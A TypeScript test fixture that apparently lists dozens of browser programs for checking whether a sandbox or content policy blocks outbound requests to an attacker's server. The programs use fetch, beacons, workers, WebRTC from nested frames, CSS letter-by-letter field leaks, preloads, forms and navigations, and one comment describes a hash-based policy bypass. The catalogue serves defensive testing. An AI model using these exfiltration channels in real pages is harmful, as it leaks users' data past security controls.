import type { Programs } from './program.ts';

/** Programs that call the attacker's server from scripts. */
export const CALLS: Programs = {
  'posts by fetch': ({ out }) => fetch(out, { method: 'POST', mode: 'no-cors', body: 'secret' }),
  'posts by XMLHttpRequest': ({ out }) => {
    const request = new XMLHttpRequest();
    request.open('POST', out);
    request.send('secret');
  },
  'posts by beacon': ({ out }) => navigator.sendBeacon(out, 'secret'),
  'posts when the page is left': ({ out }) =>
    fetch(out, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
  'opens a WebSocket': ({ out }) => new WebSocket(out.replace('http', 'ws')),
  'opens an EventSource': ({ out }) => new EventSource(out),
  'calls from a worker': ({ out }) => {
    const code = `fetch(${JSON.stringify(out)}, { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  'calls from a worker of data': ({ out }) =>
    new Worker(`data:text/javascript,fetch(${encodeURIComponent(JSON.stringify(out))},{mode:'no-cors'})`),
  'calls from a shared worker': ({ out }) => {
    const code = `fetch(${JSON.stringify(out)}, { mode: 'no-cors' })`;
    return new SharedWorker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
  'imports a module': ({ out }) => import(out),
  'fetches a font by script': ({ out }) => new FontFace('spy', `url(${out})`).load(),
  'talks WebRTC': ({ stun }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
    peer.createDataChannel('spy');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'talks WebRTC out of a nested frame': ({ container, stun }) => {
    const frame = document.createElement('iframe');
    container.append(frame);
    const { RTCPeerConnection: Peer } = frame.contentWindow as Window & typeof globalThis;
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
    peer.createDataChannel('spy');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  'talks WebRTC out of a nested document': ({ container, stun }) => {
    const frame = document.createElement('iframe');
    const code = `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });
      p.createDataChannel('spy'); p.createOffer().then((o) => p.setLocalDescription(o));`;
    frame.srcdoc = `<script>${code}</script>`;
    container.append(frame);
  },
  'talks WebRTC out of its own script again': ({ container, stun }) => {
    // A policy that allows the frame's first script by its hash also allows it in a nested document.
    const frame = document.createElement('iframe');
    const scripts = [...document.scripts].map((script) => script.outerHTML).join('');
    frame.srcdoc = scripts;
    frame.onload = () => {
      const port = new MessageChannel();
      const code = `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] }).createDataChannel('x')`;
      frame.contentWindow?.postMessage({ type: 'start', code, files: {} }, '*', [port.port2]);
    };
    container.append(frame);
  },
};

/** Programs that make an element call the attacker's server. */
export const ELEMENTS: Programs = {
  'asks for an image': ({ out }) => {
    new Image().src = out;
  },
  'asks for an image of a set': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<picture><source srcset="${out}"><img alt=""></picture>`);
  },
  'asks for an image of SVG': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<svg width="9" height="9"><image href="${out}" width="9"/></svg>`);
  },
  'asks for the picture of a button': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<input type="image" src="${out}" alt="">`);
  },
  'asks by a background of CSS': ({ container, out }) => {
    container.style.backgroundImage = `url(${out})`;
  },
  'asks by a cursor of CSS': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<i style="content: url(${out})"></i>`);
  },
  'asks by an import of CSS': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<style>@import url(${out});</style>`);
  },
  'asks by a rule for each letter of a field': ({ container, out }) => {
    container.insertAdjacentHTML(
      'beforeend',
      `<style>.spy[value^=s] { background: url(${out}) }</style><input class="spy" value="s" aria-label="s">`,
    );
  },
  'asks for a font': ({ container, out }) => {
    const style = `<style>@font-face { font-family: spy; src: url(${out}) } .spied { font-family: spy }</style>`;
    container.insertAdjacentHTML('beforeend', `${style}<p class="spied">s</p>`);
  },
  'asks for a style sheet': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: out }));
  },
  'asks for a preload': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: out }));
  },
  'asks for a module ahead': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: out }));
  },
  'asks for a prefetch': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: out }));
  },
  'asks for a name ahead': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: out }));
  },
  'connects ahead': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: out }));
  },
  'asks for an icon': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: out }));
  },
  'asks for a manifest': ({ out }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: out }));
  },
  'asks by speculation rules': ({ out }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [out], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  'asks for a script': ({ out }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: out }));
  },
  'asks for a module': ({ out }) => {
    document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: out }));
  },
  'asks for a film': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<video src="${out}" preload="auto" muted></video>`);
  },
  'asks for the picture of a film': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<video poster="${out}"></video>`);
  },
  'asks for a sound': ({ out }) => new Audio(out).load(),
  'asks for an object': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<object data="${out}" type="text/html"></object>`);
  },
  'asks for an embedded document': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<embed src="${out}" type="text/html">`);
  },
  'asks for a frame': ({ container, out }) => {
    container.append(Object.assign(document.createElement('iframe'), { src: out }));
  },
  'asks out of a nested document': ({ container, out }) => {
    container.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src="${out}" alt="">` }));
  },
  'asks out of a document of data': ({ container, out }) => {
    const src = `data:text/html,${encodeURIComponent(`<img src="${out}" alt="">`)}`;
    container.append(Object.assign(document.createElement('iframe'), { src }));
  },
  'leads a nested document away': ({ container, out }) => {
    const srcdoc = `<meta http-equiv="refresh" content="0; url=${out}">`;
    container.append(Object.assign(document.createElement('iframe'), { srcdoc }));
  },
  'sends a form into a frame': ({ container, out }) => {
    container.insertAdjacentHTML(
      'beforeend',
      `<iframe name="spy"></iframe><form action="${out}" method="post" target="spy"><input name="s" value="s"></form>`,
    );
    container.querySelector('form')?.submit();
  },
};

/** Programs that navigate a document to the attacker's server. Each ends its page, so each runs alone. */
export const NAVIGATIONS: Programs = {
  'opens a window': ({ out }) => window.open(out),
  'opens a window by a link': ({ container, out }) => {
    const link = Object.assign(document.createElement('a'), { href: out, target: '_blank', textContent: 's' });
    container.append(link);
    link.click();
  },
  'sends a form into a window': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<form action="${out}" target="_blank" method="post"></form>`);
    container.querySelector('form')?.submit();
  },
  'pings by a link': ({ container, out }) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: out, textContent: 's' });
    container.append(link);
    link.click();
  },
  'leads its document away': ({ out }) => {
    location.href = out;
  },
  'leads its document away by a refresh': ({ out }) => {
    const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; url=${out}` });
    document.head.append(refresh);
  },
  'leads its document away by a form': ({ container, out }) => {
    container.insertAdjacentHTML('beforeend', `<form action="${out}" method="post"></form>`);
    container.querySelector('form')?.submit();
  },
  'leads the top away': ({ out }) => {
    (top ?? window).location.href = out;
  },
  'leads the top away by a link': ({ container, out }) => {
    const link = Object.assign(document.createElement('a'), { href: out, target: '_top', textContent: 's' });
    container.append(link);
    link.click();
  },
  'downloads by a link': ({ container, out }) => {
    const link = Object.assign(document.createElement('a'), { href: out, download: 's', textContent: 's' });
    container.append(link);
    link.click();
  },
};
